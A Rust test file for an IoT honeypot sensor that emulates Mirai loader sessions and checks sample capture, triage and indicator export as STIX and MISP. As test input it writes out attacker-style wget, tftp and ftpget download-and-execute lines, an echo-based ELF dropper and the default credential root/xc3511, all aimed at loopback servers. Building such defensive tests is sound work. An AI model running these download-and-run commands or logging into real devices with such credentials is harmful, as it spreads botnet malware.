//! Mirai's loader, end to end over telnet, on every built-in profile and every upload
//! path (wget, tftp only, neither: the echo dropper).

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::collections::BTreeSet;

use util::mirai::{loader, Method};
use util::{http_server, source, synthetic_elf, Sensor};

/// tftp gives up at once here (a real device waits 12.9 s; the corpus checks that).
fn config(profile: &str, tools: &str) -> String {
    format!(
        "profile = \"{profile}\"\ndownload_tools = {tools}\n[limits]\ntftp_timeout = \"100ms\"\n"
    )
}

#[test]
fn loader_completes_on_every_profile_and_upload_path() {
    let cases = [
        ("xiongmai-dvr", "arm7", "/var"),
        ("ipcam-mipsel", "mpsl", "/tmp"),
        ("router-mips", "mips", "/tmp"),
        ("gateway-hg532", "mips", "/tmp"),
        ("ont-gpon", "mips", "/tmp"),
        // The oracle's root is a writable tmpfs, first in its /proc/mounts, as in
        // the sandbox it mirrors: the loader settles there ("").
        ("oracle", "x86", ""),
    ];
    let binary = synthetic_elf((1, 1, 40), 1240);
    for (i, (profile, arch, dir)) in cases.iter().enumerate() {
        for (j, (tools, expected)) in [
            ("[\"wget\", \"tftp\"]", vec![Method::Wget]),
            ("[\"tftp\"]", vec![Method::Tftp, Method::Echo]),
            ("[]", vec![Method::Echo]),
        ]
        .into_iter()
        .enumerate()
        {
            let sensor = Sensor::start_with(&config(profile, tools));
            let stream = util::tcp_from(sensor.addr, source(i * 10 + j)).unwrap();
            let run = loader(stream, "root", "xc3511", &binary).unwrap_or_else(|(o, t)| {
                panic!(
                    "{profile} {tools}: {o:?}\n{}\n{}",
                    sensor.log(),
                    String::from_utf8_lossy(&t[t.len().saturating_sub(2000)..])
                )
            });
            println!(
                "{profile} {tools}: arch {} dir {} methods {:?} listening {}",
                run.arch, run.dir, run.methods, run.listening
            );
            assert_eq!(run.dir, *dir, "{profile}");
            // ARM: without `listening tun0` the loader retries the other ARM build.
            let arch_ok =
                run.arch == *arch || (*arch == "arm7" && run.arch == "arm" && !run.listening);
            assert!(arch_ok, "{profile}: {}", run.arch);
            let mut methods = run.methods.clone();
            methods.dedup();
            assert_eq!(methods, expected, "{profile} {tools}");
            // With fetching off, wget/tftp leave an empty dvrHelper: no bot, no
            // `listening tun0`. The echo path runs the dropper, which "listens".
            assert_eq!(
                run.listening,
                expected.contains(&Method::Echo),
                "{profile} {tools}"
            );
            let events = sensor.wait_for_events("session end", |e| {
                e.iter().any(|v| {
                    v["eventid"] == "cowrie.session.closed"
                        || v["eventid"] == "busybait.command.exec"
                })
            });
            if expected == [Method::Wget] {
                let urls: Vec<&str> = events
                    .iter()
                    .filter(|v| v["eventid"] == "busybait.download.request")
                    .map(|v| v["url"].as_str().unwrap())
                    .collect();
                assert!(
                    urls.iter()
                        .any(|u| u.starts_with("http://127.0.0.1:80/bins/mirai.")),
                    "{urls:?}"
                );
            }
        }
    }
}

/// The echo dropper's binary ends up as a sample, byte for byte, once; the `kami`
/// probe files are stored once per content.
#[test]
fn echo_dropper_is_captured_as_a_sample() {
    use std::os::unix::fs::PermissionsExt;
    // An ARM ELF header, then a Mirai-style table (key 0x22) among decoy bytes.
    let mut binary = synthetic_elf((1, 1, 40), 600);
    binary.push(0);
    let mut entry = |bytes: &[u8], nul: bool| {
        binary.extend(bytes.iter().map(|b| b ^ 0x22));
        if nul {
            binary.push(0x22);
        }
        binary.push(0);
    };
    entry(b"cnc.example.net", true);
    entry(&23u16.to_be_bytes(), false);
    entry(b"report.example.net", true);
    entry(&48101u16.to_be_bytes(), false);
    for s in [&b"listening tun0"[..], b"/proc/", b"/exe", b" (deleted)"] {
        entry(s, true);
    }
    binary.resize(1240, 0x5a);
    let sha = util::sha256_hex(&binary);
    let sensor = Sensor::start_with(&config("xiongmai-dvr", "[]"));
    for round in 0..2 {
        let stream = util::tcp_from(sensor.addr, source(50 + round)).unwrap();
        let run =
            loader(stream, "root", "xc3511", &binary).unwrap_or_else(|(o, _)| panic!("{o:?}"));
        assert_eq!(run.methods, [Method::Echo]);
    }
    let events = sensor.wait_for_events("two sessions closed", |e| {
        e.iter()
            .filter(|v| v["eventid"] == "cowrie.session.closed")
            .count()
            == 2
    });
    let files: Vec<&serde_json::Value> = events
        .iter()
        .filter(|v| v["eventid"] == "cowrie.session.file_download")
        .collect();
    let upnp: Vec<&&serde_json::Value> = files
        .iter()
        .filter(|v| v["destfile"] == "/var/upnp")
        .collect();
    assert_eq!(upnp.len(), 2, "one per session");
    assert_eq!(upnp[0]["shasum"], sha.as_str());
    assert_eq!(upnp[0]["duplicate"], false);
    assert_eq!(upnp[1]["duplicate"], true);
    assert!(
        upnp[0].get("url").is_none(),
        "redirect captures carry no url"
    );
    // Its triage: the architecture, and Mirai's table with C2 and report server.
    let triage = events
        .iter()
        .find(|v| v["eventid"] == "busybait.sample.triage" && v["shasum"] == sha.as_str())
        .expect("a triage event");
    assert_eq!(triage["kind"], "elf");
    assert_eq!(triage["arch"], "arm");
    assert_eq!(triage["mirai_key"], 0x22);
    assert_eq!(
        triage["c2"],
        serde_json::json!(["cnc.example.net:23", "report.example.net:48101"])
    );
    let families: Vec<&str> = events
        .iter()
        .filter(|v| v["eventid"] == "busybait.session.family")
        .map(|v| v["family"].as_str().unwrap())
        .collect();
    assert_eq!(families, ["mirai-loader", "mirai-loader"]);
    let path = sensor.data_dir.path().join(format!("samples/{sha}"));
    assert_eq!(std::fs::read(&path).unwrap(), binary);
    assert_eq!(
        std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
        0o444
    );
    // The kami probes: every probe file is captured, but stored once per content.
    let kami: Vec<&&serde_json::Value> = files
        .iter()
        .filter(|v| v["destfile"] == "/var/.nippon")
        .collect();
    assert_eq!(kami.len(), 2);
    assert_eq!(kami.iter().filter(|v| v["duplicate"] == false).count(), 1);
    let stored = std::fs::read_dir(sensor.data_dir.path().join("samples"))
        .unwrap()
        .count();
    let distinct: std::collections::BTreeSet<&str> = files
        .iter()
        .map(|v| v["shasum"].as_str().unwrap())
        .collect();
    assert_eq!(stored, distinct.len());
}

/// A samples directory at its quota refuses new samples with an event; the sensor
/// goes on serving.
#[test]
fn samples_quota_is_an_event_not_a_crash() {
    let sensor = Sensor::start_with("profile = \"oracle\"\n[store]\nsamples_quota_bytes = 100\n");
    let mut c = sensor.connect_from(source(70));
    c.login();
    c.send(b"echo small > /tmp/a; chmod 777 /tmp/a\r\n");
    c.read_until(b"\x1b[6n", std::time::Duration::from_secs(10));
    let big = "x".repeat(300);
    c.send(format!("echo {big} > /tmp/b; chmod 777 /tmp/b\r\n").as_bytes());
    c.read_until(b"\x1b[6n", std::time::Duration::from_secs(10));
    c.send(b"/bin/busybox ALIVE\r\n");
    c.read_until(
        b"ALIVE: applet not found",
        std::time::Duration::from_secs(10),
    );
    let events = sensor.wait_for_events("quota event", |e| {
        e.iter()
            .any(|v| v["eventid"] == "busybait.limit" && v["limit"] == "samples_quota_bytes")
    });
    let stored: Vec<&str> = events
        .iter()
        .filter(|v| v["eventid"] == "cowrie.session.file_download")
        .map(|v| v["destfile"].as_str().unwrap())
        .collect();
    assert_eq!(stored, ["/tmp/a"]);
}

/// A sensor config with fetching on and only 127.0.0.1 allowed (the test's own
/// servers); `top` adds top-level keys.
fn fetch_config(top: &str) -> String {
    format!(
        "profile = \"xiongmai-dvr\"\n{top}[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n"
    )
}

#[test]
fn fetching_downloads_what_the_bot_asks_for_and_its_second_stage() {
    let binary = synthetic_elf((1, 1, 40), 2000);
    let sha = util::sha256_hex(&binary);
    // The same port on 127.0.0.1 (allowed) and 127.0.0.2 (loopback, but not allowed).
    let allowed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = allowed.local_addr().unwrap().port();
    let denied = std::net::TcpListener::bind(("127.0.0.2", port)).unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let script = format!("cd /var\nwget {base}/go -O dvr\nchmod 777 dvr\n./dvr telnet.arm\n");
    let requests = http_server(
        vec![allowed, denied],
        vec![
            ("/bins.sh".to_string(), script.into_bytes()),
            (
                "/go".to_string(),
                format!("REDIRECT {base}/x.arm7").into_bytes(),
            ),
            ("/x.arm7".to_string(), binary.clone()),
        ],
    );
    let sensor = Sensor::start_with(&fetch_config(""));
    let mut client = sensor.connect();
    client.login();
    let denied_url = format!("http://127.0.0.2:{port}/denied.sh");
    client.send(
        format!("cd /var; wget {denied_url}; wget {base}/bins.sh; sh bins.sh\r\n").as_bytes(),
    );
    let out = client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.contains("wget: can't connect to remote host (127.0.0.2): Connection refused"),
        "{text}"
    );
    assert!(text.contains("saving to 'bins.sh'"), "{text}");
    assert!(text.contains("saving to 'dvr'"), "{text}");
    client.send(b"exit\r\n");
    let events = sensor.wait_for_events("the session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let urls: Vec<&str> = events
        .iter()
        .filter(|v| v["eventid"] == "busybait.download.request")
        .map(|v| v["url"].as_str().unwrap())
        .collect();
    assert_eq!(
        urls,
        [
            denied_url.clone(),
            format!("{base}/bins.sh"),
            format!("{base}/go")
        ]
    );
    let files: Vec<(&str, &str, &str)> = events
        .iter()
        .filter(|v| v["eventid"] == "cowrie.session.file_download")
        .map(|v| {
            (
                v["destfile"].as_str().unwrap(),
                v["url"].as_str().unwrap_or(""),
                v["shasum"].as_str().unwrap(),
            )
        })
        .collect();
    let go = format!("{base}/go");
    assert!(files.contains(&("/var/dvr", &go, &sha)), "{files:?}");
    assert!(
        files
            .iter()
            .any(|f| f.0 == "/var/bins.sh" && f.1 == format!("{base}/bins.sh")),
        "{files:?}"
    );
    let stored = sensor.data_dir.path().join("samples").join(&sha);
    assert_eq!(std::fs::read(stored).unwrap(), binary);
    drop(sensor);
    let seen: Vec<String> = requests.try_iter().collect();
    assert_eq!(
        seen,
        ["127.0.0.1 /bins.sh", "127.0.0.1 /go", "127.0.0.1 /x.arm7"],
        "the denied address was never contacted"
    );
}

/// A loopback TFTP server for one read request: returns its port and, once the
/// transfer ends, the file name asked for.
fn tftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<String>) {
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || {
        let mut buf = [0u8; 600];
        let (n, client) = listener.recv_from(&mut buf).unwrap();
        let request = &buf[..n];
        assert_eq!(&request[..2], &[0, 1], "a read request");
        let fields: Vec<&[u8]> = request[2..].split(|&b| b == 0).collect();
        assert_eq!(fields[1], b"octet");
        let name = String::from_utf8(fields[0].to_vec()).unwrap();
        // RFC 1350: the transfer runs from a port of its own.
        let transfer = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        transfer
            .set_read_timeout(Some(std::time::Duration::from_secs(10)))
            .unwrap();
        for (i, chunk) in body.chunks(512).chain([&[][..]]).enumerate() {
            let block = (i + 1) as u16;
            let mut packet = vec![0, 3];
            packet.extend_from_slice(&block.to_be_bytes());
            packet.extend_from_slice(chunk);
            transfer.send_to(&packet, client).unwrap();
            let (n, _) = transfer.recv_from(&mut buf).unwrap();
            assert_eq!(
                &buf[..n],
                &[0, 4, (block >> 8) as u8, block as u8],
                "ACK {block}"
            );
            if chunk.len() < 512 {
                break;
            }
        }
        name
    });
    (port, handle)
}

#[test]
fn fetching_over_tftp_lands_the_binary_as_a_sample() {
    let binary = synthetic_elf((1, 1, 40), 1500);
    let sha = util::sha256_hex(&binary);
    let (port, server) = tftp_server(binary.clone());
    let sensor = Sensor::start_with(&fetch_config("download_tools = [\"tftp\"]\n"));
    let mut client = sensor.connect();
    client.login();
    client.send(
        format!("cd /var; tftp -g -r bins/t.arm7 -l t 127.0.0.1 {port}; chmod 777 t; ./t\r\n")
            .as_bytes(),
    );
    let out = client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
    assert!(!String::from_utf8_lossy(&out).contains("tftp:"), "{out:?}");
    assert_eq!(server.join().unwrap(), "bins/t.arm7");
    client.send(b"exit\r\n");
    let events = sensor.wait_for_events("the session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let url = format!("tftp://127.0.0.1:{port}/bins/t.arm7");
    let file = events
        .iter()
        .find(|v| v["eventid"] == "cowrie.session.file_download" && v["destfile"] == "/var/t")
        .expect("a file_download for /var/t");
    assert_eq!(file["url"], url.as_str());
    assert_eq!(file["shasum"], sha.as_str());
    let stored = sensor.data_dir.path().join("samples").join(&sha);
    assert_eq!(std::fs::read(stored).unwrap(), binary);
}

#[test]
fn a_file_being_written_survives_a_crash_of_the_sensor() {
    let config = "profile = \"xiongmai-dvr\"\n";
    let sensor = Sensor::start_with(config);
    let mut client = sensor.connect();
    client.login();
    client
        .send(b"cd /var; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > upnp; /bin/busybox ECCHI\r\n");
    client.send(b"echo -ne '\\x01\\x00' >> upnp; /bin/busybox ECCHI\r\n");
    // The edge stages a line's new bytes before it sends the line's output.
    for _ in 0..2 {
        client.read_until(
            b"ECCHI: applet not found\r\n# ",
            std::time::Duration::from_secs(10),
        );
    }
    let session = sensor.wait_for_events("the login", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.login.success")
    })[0]["session"]
        .as_str()
        .unwrap()
        .to_string();
    let dir = sensor.kill9();
    let partial = b"\x7fELF\x01\x01\x01\x00".to_vec();
    let sha = util::sha256_hex(&partial);
    let sensor = Sensor::start_in(dir, config);
    let events = sensor.wait_for_events("the recovered file", |e| {
        e.iter()
            .any(|v| v["eventid"] == "cowrie.session.file_download")
    });
    let file = events
        .iter()
        .find(|v| v["eventid"] == "cowrie.session.file_download")
        .unwrap();
    assert_eq!(file["destfile"], "/var/upnp");
    assert_eq!(file["shasum"], sha.as_str());
    assert_eq!(file["session"], session.as_str());
    assert_eq!(file["src_ip"], "127.0.0.1");
    let stored = sensor.data_dir.path().join("samples").join(&sha);
    assert_eq!(std::fs::read(stored).unwrap(), partial);
    let leftovers = std::fs::read_dir(sensor.data_dir.path().join("staging"))
        .unwrap()
        .count();
    assert_eq!(leftovers, 0, "recovered staging is removed");
}

/// A loopback FTP server for one passive-mode download: returns its port and, when
/// the client quits, every command it received.
fn ftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<Vec<String>>) {
    use std::io::{BufRead, BufReader, Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || {
        let (control, _) = listener.accept().unwrap();
        let mut out = control.try_clone().unwrap();
        let mut lines = BufReader::new(control);
        out.write_all(b"220-test server\r\n220 ready\r\n").unwrap();
        let mut commands = Vec::new();
        let mut data_listener = None;
        loop {
            let mut line = String::new();
            if lines.read_line(&mut line).unwrap() == 0 {
                break;
            }
            let command = line.trim_end().to_string();
            commands.push(command.clone());
            let verb = command.split(' ').next().unwrap().to_string();
            match verb.as_str() {
                "USER" => out.write_all(b"331 password please\r\n").unwrap(),
                "PASS" => out.write_all(b"230 in\r\n").unwrap(),
                "TYPE" => out.write_all(b"200 binary\r\n").unwrap(),
                "PASV" => {
                    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
                    let p = l.local_addr().unwrap().port();
                    // A hostile server may announce another host: the client must
                    // still connect to the control connection's address.
                    let reply = format!(
                        "227 Entering Passive Mode (192,0,2,7,{},{})\r\n",
                        p >> 8,
                        p & 0xff
                    );
                    out.write_all(reply.as_bytes()).unwrap();
                    data_listener = Some(l);
                }
                "RETR" => {
                    out.write_all(b"150 here it comes\r\n").unwrap();
                    let (mut data, _) = data_listener.take().unwrap().accept().unwrap();
                    data.write_all(&body).unwrap();
                    drop(data);
                    out.write_all(b"226 done\r\n").unwrap();
                }
                "QUIT" => {
                    out.write_all(b"221 bye\r\n").unwrap();
                    break;
                }
                _ => out.write_all(b"502 no\r\n").unwrap(),
            }
        }
        let mut rest = Vec::new();
        let _ = lines.read_to_end(&mut rest);
        commands
    });
    (port, handle)
}

#[test]
fn fetching_over_ftp_lands_the_binary_as_a_sample() {
    let binary = synthetic_elf((1, 1, 40), 9000);
    let sha = util::sha256_hex(&binary);
    let (port, server) = ftp_server(binary.clone());
    let sensor = Sensor::start_with(&fetch_config(""));
    let mut client = sensor.connect();
    client.login();
    client.send(
        format!(
            "cd /var; ftpget -u bot -p s3cret -P {port} 127.0.0.1 f bins/f.arm7; chmod 777 f; ./f\r\n"
        )
        .as_bytes(),
    );
    client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
    assert_eq!(
        server.join().unwrap(),
        [
            "USER bot",
            "PASS s3cret",
            "TYPE I",
            "PASV",
            "RETR bins/f.arm7",
            "QUIT"
        ]
    );
    client.send(b"exit\r\n");
    let events = sensor.wait_for_events("the session closed", |e| {
        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
    });
    let file = events
        .iter()
        .find(|v| v["eventid"] == "cowrie.session.file_download" && v["destfile"] == "/var/f")
        .expect("a file_download for /var/f");
    assert_eq!(
        file["url"],
        format!("ftp://bot@127.0.0.1:{port}/bins/f.arm7").as_str()
    );
    assert_eq!(file["shasum"], sha.as_str());
    let stored = sensor.data_dir.path().join("samples").join(&sha);
    assert_eq!(std::fs::read(stored).unwrap(), binary);
}

/// Runs `busybait export` on a data dir and returns its stdout.
fn export(dir: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
        .arg("export")
        .arg("--data-dir")
        .arg(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn exports_list_the_indicators_the_sessions_left() {
    let sensor = Sensor::start_with("profile = \"xiongmai-dvr\"\n");
    let payload = b"\x7fELF\x01\x01";
    let sha = util::sha256_hex(payload);
    for (i, line) in [
        "wget http://127.0.0.1:80/bins/mirai.arm7; /bin/busybox IHCCE\r\n",
        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x; curl -O http://127.0.0.1/c.sh\r\n",
    ]
    .iter()
    .enumerate()
    {
        let mut client = sensor.connect_from(source(20 + i * 8));
        client.login();
        client.send(line.as_bytes());
        client.send(b"exit\r\n");
        client.read_to_close(std::time::Duration::from_secs(10));
    }
    sensor.wait_for_events("both sessions closed", |e| {
        e.iter()
            .filter(|v| v["eventid"] == "cowrie.session.closed")
            .count()
            == 2
    });
    let (dir, _) = sensor.stop();
    let dir = dir.path();
    // The sources are loopback: a blocklist leaves them out unless asked.
    assert_eq!(export(dir, &["--format", "ips"]), "");
    assert_eq!(
        export(dir, &["--format", "ips", "--include-private"]),
        "127.1.0.22\n127.1.0.30\n"
    );
    assert_eq!(
        export(dir, &["--format", "urls"]),
        "http://127.0.0.1/c.sh\nhttp://127.0.0.1:80/bins/mirai.arm7\n"
    );
    assert_eq!(export(dir, &["--format", "hashes"]), format!("{sha}\n"));
    let csv = export(dir, &["--format", "csv"]);
    let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
    assert_eq!(
        rows[0],
        ["type", "value", "first_seen", "last_seen", "count"]
    );
    let kinds: Vec<(&str, &str, &str)> = rows[1..].iter().map(|r| (r[0], r[1], r[4])).collect();
    assert_eq!(
        kinds,
        [
            ("ip", "127.1.0.22", "1"),
            ("ip", "127.1.0.30", "1"),
            ("url", "http://127.0.0.1/c.sh", "1"),
            ("url", "http://127.0.0.1:80/bins/mirai.arm7", "1"),
            ("sha256", sha.as_str(), "1"),
        ]
    );
    assert_eq!(
        export(dir, &["--format", "csv"]),
        csv,
        "same data, same bytes"
    );
    // A window after everything is empty; a window that is not a time is an error.
    assert_eq!(
        export(dir, &["--format", "ips", "--since", "2999-01-01T00:00:00Z"]),
        ""
    );
    assert_eq!(
        export(
            dir,
            &["--format", "ips", "--since", "1h", "--include-private"]
        ),
        "127.1.0.22\n127.1.0.30\n"
    );
    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args([
            "export",
            "--format",
            "ips",
            "--since",
            "yesterday",
            "--data-dir",
        ])
        .arg(dir)
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("neither an RFC 3339 time"));

    // STIX: valid under the OASIS validator in strict mode, and stable.
    let public_only = export(dir, &["--format", "stix"]);
    assert!(!public_only.contains("ipv4-addr"), "{public_only}");
    let stix = export(dir, &["--format", "stix", "--include-private"]);
    assert_eq!(
        export(dir, &["--format", "stix", "--include-private"]),
        stix,
        "same data, same bytes"
    );
    let bundle: serde_json::Value = serde_json::from_str(&stix).unwrap();
    let types: BTreeSet<&str> = bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["type"].as_str().unwrap())
        .collect();
    for t in [
        "malware",
        "relationship",
        "identity",
        "ipv4-addr",
        "url",
        "file",
        "indicator",
        "observed-data",
        "sighting",
    ] {
        assert!(types.contains(t), "{t} missing from {types:?}");
    }
    let ip = format!(
        "ipv4-addr--{}",
        uuid_v5_for_test("{\"value\":\"127.1.0.22\"}")
    );
    assert!(stix.contains(&ip), "{ip} not in the bundle");
    let file = bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["type"] == "file")
        .unwrap();
    assert_eq!(
        (&file["name"], &file["size"], &file["hashes"]["SHA-256"]),
        (
            &serde_json::json!("x"),
            &serde_json::json!(6),
            &serde_json::json!(sha)
        )
    );
    util::stix_validate(&stix).expect("the bundle is valid");
    // The validator really runs: a bundle with an indicator lacking its pattern fails.
    let broken = stix.replacen("\"pattern\":", "\"pattern_removed\":", 1);
    assert!(
        util::stix_validate(&broken).is_err(),
        "a broken bundle must fail"
    );

    // MISP: loads with pymisp, warnings as errors, and round-trips its attributes.
    assert!(!export(dir, &["--format", "misp"]).contains("127.1.0.22"));
    let misp = export(dir, &["--format", "misp", "--include-private"]);
    assert_eq!(
        export(dir, &["--format", "misp", "--include-private"]),
        misp,
        "same data, same bytes"
    );
    let (attributes, objects, tags) = util::misp_load(&misp);
    let pair = |t: &str, v: &str| vec![t.to_string(), v.to_string()];
    assert_eq!(
        attributes,
        [
            pair("filename|sha256", &format!("x|{sha}")),
            pair("ip-src", "127.1.0.22"),
            pair("ip-src", "127.1.0.30"),
            pair("sha256", &sha),
            pair("url", "http://127.0.0.1/c.sh"),
            pair("url", "http://127.0.0.1:80/bins/mirai.arm7"),
        ]
    );
    let row = |rel: &str, t: &str, v: &str| {
        vec![
            "file".to_string(),
            rel.to_string(),
            t.to_string(),
            v.to_string(),
        ]
    };
    assert_eq!(
        objects,
        [
            row("filename", "filename", "x"),
            row("sha256", "sha256", &sha),
            row("size-in-bytes", "size-in-bytes", "6"),
        ]
    );
    assert_eq!(tags, ["busybait:family=\"mirai-loader\"", "tlp:green"]);

    // The report counts the same store.
    let report = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
            .arg("report")
            .arg("--data-dir")
            .arg(dir)
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let r: serde_json::Value = serde_json::from_str(&report(&["--json"])).unwrap();
    assert_eq!(r["sessions"], 2);
    assert_eq!(r["unique_sources"], 2);
    assert_eq!(r["logins_tried"], 2);
    assert_eq!(r["logins_accepted"], 2);
    assert_eq!(r["by_day"].as_array().unwrap().len(), 1);
    assert_eq!(
        r["top_credentials"],
        serde_json::json!([{"username": "root", "password": "xc3511", "tried": 2, "accepted": 2, "tables": ["mirai"]}])
    );
    assert_eq!(
        r["top_commands"][0],
        serde_json::json!({"value": "exit", "count": 2})
    );
    assert_eq!(
        r["top_commands"].as_array().unwrap().len(),
        3,
        "{}",
        r["top_commands"]
    );
    assert_eq!(
        r["top_urls"],
        serde_json::json!([
            {"value": "http://127.0.0.1/c.sh", "count": 1},
            {"value": "http://127.0.0.1:80/bins/mirai.arm7", "count": 1}
        ])
    );
    assert_eq!(
        r["top_hosts"],
        serde_json::json!([{"value": "127.0.0.1", "count": 2}])
    );
    assert_eq!(r["samples"].as_array().unwrap().len(), 1);
    assert_eq!(r["samples"][0]["sha256"], sha.as_str());
    assert_eq!(r["samples"][0]["drops"], 1);
    let labelled: u64 = r["families"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["sessions"].as_u64().unwrap())
        .sum();
    assert_eq!(labelled, 2, "every session has a label: {}", r["families"]);
    assert_eq!(report(&["--json"]), report(&["--json"]), "stable");
    let text = report(&[]);
    assert!(
        text.contains("Top credentials") && text.contains("xc3511"),
        "{text}"
    );
    assert!(!text.contains('\x1b'));
}

/// STIX's UUIDv5 over `name` (namespace 00abedb4-aa42-466c-9c01-fed23315a9b7),
/// computed here independently of the sensor's code.
fn uuid_v5_for_test(name: &str) -> String {
    use sha1::Digest as _;
    let namespace: [u8; 16] = [
        0x00, 0xab, 0xed, 0xb4, 0xaa, 0x42, 0x46, 0x6c, 0x9c, 0x01, 0xfe, 0xd2, 0x33, 0x15, 0xa9,
        0xb7,
    ];
    let mut input = namespace.to_vec();
    input.extend_from_slice(name.as_bytes());
    let mut h: Vec<u8> = sha1::Sha1::digest(&input).to_vec();
    h[6] = (h[6] & 0x0f) | 0x50;
    h[8] = (h[8] & 0x3f) | 0x80;
    let hex: String = h[..16].iter().map(|b| format!("{b:02x}")).collect();
    format!(
        "{}-{}-{}-{}-{}",
        &hex[..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..32]
    )
}
